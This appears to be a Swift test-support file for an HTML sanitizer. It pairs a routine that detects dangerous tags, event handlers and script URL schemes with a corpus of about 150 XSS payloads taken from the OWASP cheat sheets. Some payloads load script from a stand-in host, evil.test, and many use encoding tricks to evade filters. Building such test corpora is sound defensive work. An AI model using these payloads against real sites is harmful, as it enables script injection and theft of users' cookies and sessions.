/// Markup that was found to run something where a filter let it through: the classes of the OWASP and HTML5 security cheat sheets.
enum Attacks {
    /// What a browser would run or load of its own accord; empty for a fragment that is safe.
    static func signs(in html: String) -> [String] {
        let tags = html.matches(of: /<\/?([a-zA-Z][a-zA-Z0-9:-]*)((?:[^"<>]|"[^"]*")*)>/)
        let forbidden: Set<String> = [
            "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "meta", "base", "link", "html", "head", "body",
            "template", "xml", "bgsound", "layer", "isindex", "plaintext", "xmp", "noembed", "portal", "handler", "listener", "marquee",
        ]
        var signs = tags.map { String($0.1).lowercased() }.filter(forbidden.contains)
        for tag in tags {
            for attribute in tag.2.matches(of: /([^\s="]+)="([^"]*)"/) {
                let (name, value) = (attribute.1.lowercased(), attribute.2.lowercased().filter { !$0.isWhitespace })
                if name.hasPrefix("on") || ["srcdoc", "formaction", "http-equiv", "background-image"].contains(name) { signs.append(name) }
                if ["javascript:", "vbscript:", "livescript:", "mocha:", "data:", "blob:", "about:", "jar:"].contains(
                    where: value.hasPrefix)
                {
                    signs.append("\(name)=\(value)")
                }
                if name == "style", ["url(", "expression", "@import", "behavior", "binding", "\\", "/*"].contains(where: value.contains) {
                    signs.append("\(name)=\(value)")
                }
            }
        }
        // What is no tag of ours must not look like one to anybody.
        let rest = html.replacing(/<\/?[a-zA-Z][a-zA-Z0-9:-]*(?:[^"<>]|"[^"]*")*>/, with: "")
        if rest.contains("<") { signs.append("<") }
        return signs
    }

    static let all: [String] = lines.split(separator: "\n").map(String.init)

    private static let lines = #"""
        <SCRIPT SRC=http://evil.test/xss.js></SCRIPT>
        <IMG SRC="javascript:alert('XSS');">
        <IMG SRC=javascript:alert('XSS')>
        <IMG SRC=JaVaScRiPt:alert('XSS')>
        <IMG SRC=javascript:alert(&quot;XSS&quot;)>
        <IMG SRC=`javascript:alert("RSnake says, 'XSS'")`>
        <a onmouseover="alert(document.cookie)">xxs link</a>
        <IMG """><SCRIPT>alert("XSS")</SCRIPT>">
        <IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>
        <IMG SRC=# onmouseover="alert('xxs')">
        <IMG SRC= onmouseover="alert('xxs')">
        <IMG onmouseover="alert('xxs')">
        <IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>
        <img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">
        <IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
        <IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>
        <IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1)>
        <IMG SRC="jav	ascript:alert('XSS');">
        <IMG SRC="jav&#x09;ascript:alert('XSS');">
        <IMG SRC="jav&#x0A;ascript:alert('XSS');">
        <IMG SRC="jav&#x0D;ascript:alert('XSS');">
        <IMG SRC=" &#14;  javascript:alert('XSS');">
        <a href="&Tab;javascript:alert(1)">x</a>
        <a href="java&NewLine;script:alert(1)">x</a>
        <a href="javascript&colon;alert(1)">x</a>
        <a href="&#1;javascript:alert(1)">x</a>
        <SCRIPT/XSS SRC="http://evil.test/xss.js"></SCRIPT>
        <BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert("XSS")>
        <SCRIPT/SRC="http://evil.test/xss.js"></SCRIPT>
        <<SCRIPT>alert("XSS");//\<</SCRIPT>
        <SCRIPT SRC=http://evil.test/xss.js?< B >
        <SCRIPT SRC=//evil.test/.j>
        <IMG SRC="('XSS')"
        <iframe src=http://evil.test/scriptlet.html <
        </script><script>alert('XSS');</script>
        </TITLE><SCRIPT>alert("XSS");</SCRIPT>
        <INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">
        <BODY BACKGROUND="javascript:alert('XSS')">
        <IMG DYNSRC="javascript:alert('XSS')">
        <IMG LOWSRC="javascript:alert('XSS')">
        <STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>
        <IMG SRC='vbscript:msgbox("XSS")'>
        <IMG SRC="livescript:[code]">
        <svg/onload=alert('XSS')>
        <BODY ONLOAD=alert('XSS')>
        <BGSOUND SRC="javascript:alert('XSS');">
        <BR SIZE="&{alert('XSS')}">
        <LINK REL="stylesheet" HREF="javascript:alert('XSS');">
        <LINK REL="stylesheet" HREF="http://evil.test/xss.css">
        <STYLE>@import'http://evil.test/xss.css';</STYLE>
        <META HTTP-EQUIV="Link" Content="<http://evil.test/xss.css>; REL=stylesheet">
        <STYLE>BODY{-moz-binding:url("http://evil.test/xssmoz.xml#xss")}</STYLE>
        <STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>
        <IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">
        exp/*<A STYLE='no\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))'>
        <STYLE TYPE="text/javascript">alert('XSS');</STYLE>
        <STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>
        <XSS STYLE="xss:expression(alert('XSS'))">
        <XSS STYLE="behavior: url(xss.htc);">
        <META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">
        <META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">
        <IFRAME SRC="javascript:alert('XSS');"></IFRAME>
        <IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>
        <iframe srcdoc="<script>alert(1)</script>"></iframe>
        <FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>
        <TABLE BACKGROUND="javascript:alert('XSS')">
        <TABLE><TD BACKGROUND="javascript:alert('XSS')">
        <DIV STYLE="background-image: url(javascript:alert('XSS'))">
        <DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061'\0029">
        <DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">
        <DIV STYLE="width: expression(alert('XSS'));">
        <!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->
        <BASE HREF="javascript:alert('XSS');//">
        <OBJECT TYPE="text/x-scriptlet" DATA="http://evil.test/scriptlet.html"></OBJECT>
        <OBJECT classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert('XSS')></OBJECT>
        <EMBED SRC="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>
        <XML ID="xss"><I><B>&lt;IMG SRC="javas<!-- -->cript:alert('XSS')"&gt;</B></I></XML>
        <HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><t:set attributeName="innerHTML" to="XSS"></BODY></HTML>
        <SCRIPT a=">" SRC="http://evil.test/xss.js"></SCRIPT>
        <SCRIPT =">" SRC="http://evil.test/xss.js"></SCRIPT>
        <SCRIPT a=">" '' SRC="http://evil.test/xss.js"></SCRIPT>
        <SCRIPT "a='>'" SRC="http://evil.test/xss.js"></SCRIPT>
        <SCRIPT a=`>` SRC="http://evil.test/xss.js"></SCRIPT>
        <SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="http://evil.test/xss.js"></SCRIPT>
        <form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button>
        <form action="javascript:alert(1)"><input type=submit></form>
        <input onfocus=write(1) autofocus>
        <input onblur=write(1) autofocus><input autofocus>
        <video poster=javascript:alert(1)//></video>
        <video><source onerror="alert(1)">
        <video onerror="alert(1)"><source></source></video>
        <audio src=x onerror=alert(1)>
        <body onscroll=alert(1)><br><br><input autofocus>
        <form id=test onforminput=alert(1)><input></form><button form=test onformchange=alert(2)>X</button>
        <frameset onload=alert(1)>
        <table background="javascript:alert(1)"></table>
        <!--<img src="--><img src=x onerror=alert(1)//">
        <comment><img src="</comment><img src=x onerror=alert(1))//">
        <![><img src="]><img src=x onerror=alert(1)//">
        <style><img src="</style><img src=x onerror=alert(1)//">
        <head><base href="javascript://"/></head><body><a href="/. /,alert(1)//#">XXX</a></body>
        <SCRIPT FOR=document EVENT=onreadystatechange>alert(1)</SCRIPT>
        <object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
        <embed src="javascript:alert(1)">
        <b <script>alert(1)//</script>0</script></b>
        <div id="div1"><input value="``onmouseover=alert(1)"></div>
        <x '="foo"><x foo='><img src=x onerror=alert(1)//'>
        <embed src="http://evil.test/?%0D%0A%0D%0A<script>alert(1)</script>">
        <div style=width:1px;filter:glow onfilterchange=alert(1)>x</div>
        <? foo="><script>alert(1)</script>">
        <! foo="><script>alert(1)</script>">
        </ foo="><script>alert(1)</script>">
        <% foo><x foo="%><script>alert(123)</script>">
        <div style="font-family:'foo&#10;;color:red;';">LOL
        <svg><script>alert(1)</script></svg>
        <svg xmlns="http://www.w3.org/2000/svg"><g onload="javascript:alert(1)"></g></svg>
        <svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>
        <svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
        <svg><handler type="text/javascript" ev:event="load">alert(1)</handler></svg>
        <svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>
        <svg><image xlink:href="data:image/svg+xml,<svg onload=alert(1)>"></svg>
        <svg><use xlink:href="data:application/xml;base64,PHN2Zz48L3N2Zz4="></svg>
        <svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>
        <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
        <math href="javascript:alert(1)">CLICKME</math>
        <math><maction actiontype="statusline" xlink:href="javascript:alert(3)">CLICKME</maction></math>
        <math><mi//xlink:href="data:x,<script>alert(4)</script>">
        <noscript><p title="</noscript><img src=x onerror=alert(1)>">
        <textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
        <select><style></select><img src=x onerror=alert(1)></style></select>
        <title><img src="</title><img src=x onerror=alert(1)>">
        <xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
        <template><script>alert(1)</script></template>
        <p/onclick=alert(1)>x
        <a href="https://x" onmouseover="x">y</a>
        <a href=x:alert(1)>x</a>
        <a href="data:text/html,<script>alert(1)</script>">x</a>
        <a href="feed:javascript:alert(1)" ping="javascript:alert(1)">x</a>
        <a href="//evil.test" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>
        <q cite="javascript:alert(1)">x</q><blockquote cite="vbscript:x">x</blockquote>
        <img usemap="javascript:x" longdesc="javascript:y" src="javascript:z">
        <scr<script>ipt>alert(1)</scr</script>ipt>
        <script>alert(1)</script
        <img src=x:x onerror
        =alert(1)>
        <marquee onstart=alert(1)>x</marquee>
        <details open ontoggle=alert(1)>x</details>
        <isindex type=image src=1 onerror=alert(1)>
        <portal src="javascript:alert(1)"></portal>
        """#
}
